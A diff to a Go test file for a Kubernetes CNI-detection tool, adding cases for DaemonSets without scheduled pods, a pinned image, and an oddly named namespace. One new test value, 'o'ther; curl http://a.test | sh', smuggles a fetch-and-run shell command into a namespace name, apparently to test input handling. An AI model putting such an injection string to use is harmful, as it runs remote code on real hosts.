@@ -45,6 +45,7 @@ func namespace(level string) *corev1.Namespace {
 func daemonSet(image string, command ...string) appsv1.DaemonSet {
 	return appsv1.DaemonSet{
 		ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "any"},
+		Status:     appsv1.DaemonSetStatus{CurrentNumberScheduled: 1},
 		Spec: appsv1.DaemonSetSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
 			Containers: []corev1.Container{{Image: "registry.k8s.io/pause:3.10"}, {Image: image, Command: command}},
 			Volumes:    []corev1.Volume{{VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/etc/cni/net.d"}}}},
@@ -150,6 +151,12 @@ var changes = []struct {
 		with("istio/install-cni")(c)
 		c.DaemonSets[0].Spec.Template.Spec.Volumes = nil
 	}},
+	{"istio-cni and ztunnel without pods", func(c *Cluster) {
+		with("tenant/install-cni", "tenant/ztunnel")(c)
+		for i := range c.DaemonSets {
+			c.DaemonSets[i].Status.CurrentNumberScheduled = 0
+		}
+	}},
 	{"istio-cni and a problem", func(c *Cluster) { with("istio/install-cni")(c); c.Version = "v1.24.0" }},
 	{"istio-cni, ambient", func(c *Cluster) {
 		c.IstioCNI = configMap("AMBIENT_ENABLED", "true")
@@ -201,6 +208,11 @@ var changes = []struct {
 	{"installed", installed("capture-cni", "mesh", "auto")},
 	{"installed without Helm", installed("capture-cni", "", "auto")},
 	{"installed elsewhere", installed("other", "mesh", "auto")},
+	{"installed in a namespace that is no word", installed("o'ther; curl http://a.test | sh", "mesh", "auto")},
+	{"installed, with a pinned image", func(c *Cluster) {
+		installed("capture-cni", "mesh", "auto")(c)
+		c.Installed.Pinned = []string{"ghcr.io/capture-cni/capture-cni:v0.1.0"}
+	}},
 	{"installed, in another mode than istiod's", func(c *Cluster) {
 		installed("capture-cni", "capture-cni", "insert")(c)
 		inject(`{"pilot":{"cni":{"enabled":true,"provider":"multus"}}}`)(c)
